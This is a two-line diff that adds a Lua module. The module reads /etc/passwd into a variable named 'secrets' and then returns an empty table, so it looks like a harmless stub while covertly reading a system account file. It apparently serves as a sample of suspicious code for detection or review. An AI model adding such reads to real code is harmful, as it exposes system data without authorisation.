@@ -1,0 +1,2 @@
+local secrets = io.open("/etc/passwd"):read("a")
+return {}
